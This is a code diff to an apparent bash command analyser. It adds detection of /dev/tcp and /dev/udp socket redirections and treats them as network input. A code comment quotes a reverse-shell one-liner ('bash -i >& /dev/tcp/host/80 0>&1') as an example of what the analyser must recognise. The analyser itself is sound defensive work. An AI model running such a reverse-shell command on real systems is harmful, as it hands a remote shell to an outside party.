@@ -1,5 +1,5 @@
 import { expandBody, expandText, expandWord } from './expand-word.ts';
-import { type Field, isKnown, knownField, unknownField } from './field.ts';
+import { type Field, fieldFrom, isKnown, knownField, unknownField } from './field.ts';
 import type { Redirection } from './parse.ts';
 import { type Descriptor, setVariable, textValue } from './scope.ts';
 import {
@@ -9,6 +9,7 @@ import {
   type Output,
   readableContent,
   recordAccess,
+  recordAround,
   recordUnresolved,
   resolveField,
 } from './session.ts';
@@ -29,6 +30,9 @@ export interface OutputFile {
   readonly frame: Frame;
   readonly appends: boolean;
 }
+
+/** bash opens a connection for it. */
+const SOCKET = /^\/dev\/(?:tcp|udp)\//;
 
 /** Programs that do something with what they read, other than print it. */
 const ACTS_ON_INPUT =
@@ -80,10 +84,11 @@ function openFile(
   const fields = applyFileRedirect(redirect, frame);
   const [first] = fields;
   const opened = openedBy(operator, first, looksInside, streams.descriptors, frame);
-  if (number !== 1 && number !== 2) streams.descriptors.set(number, opened);
+  const isSocket = first !== undefined && SOCKET.test(first.text);
+  if ((number !== 1 && number !== 2) || isSocket) streams.descriptors.set(number, opened);
   const isOutput = number === 1 || operator.startsWith('&');
   if (isOutput) streams.printsToPipe = false;
-  else if (number === 0 && (operator === '<' || operator === '<&')) streams.input = opened.content;
+  else if (number === 0 && operator !== '<>') streams.input = opened.content;
   // What goes to the standard error as well isn't known.
   if (isOutput && /^>[>|]?$/.test(operator))
     streams.outputs.push(...fields.map((target) => ({ target, frame, appends: operator === '>>' })));
@@ -98,13 +103,15 @@ function openedBy(
   frame: Frame,
 ): Descriptor {
   if (target === undefined) return { path: undefined, content: undefined };
-  if (operator === '<&' || operator === '>&') {
+  if ((operator === '<&' || operator === '>&') && !SOCKET.test(target.text)) {
     const same =
       isKnown(target) && /^\d{1,4}-?$/.test(target.text) ? Number.parseInt(target.text, 10) : undefined;
     const open = same === undefined ? undefined : descriptors.get(same);
     return open ?? { path: undefined, content: same === 0 ? frame.input : undefined };
   }
   const path = resolveField(frame, target);
+  // What is opened for both is read from, too: `bash -i >& /dev/tcp/host/80 0>&1`.
+  if (SOCKET.test(target.text)) return { path, content: fieldFrom('network') };
   if (operator !== '<') return { path, content: undefined };
   if (!looksInside) return { path, content: contentGiven(target, frame) };
   return {
@@ -157,6 +164,8 @@ function applyFileRedirect(redirect: FileRedirect, frame: Frame): readonly Field
   const duplicates = operator === '>&' || operator === '<&';
   for (const field of fields) {
     if (duplicates && (field.state === 'unknown' || /^(?:\d+-?|-)$/.test(field.text))) continue;
+    if (SOCKET.test(field.text))
+      recordAround(frame, [knownField(operator.startsWith('<') ? '<' : '>'), field]);
     if (operator === '<>') recordAccess(frame, 'read', field);
     recordAccess(frame, operator === '<' || operator === '<&' ? 'read' : 'create', field);
   }
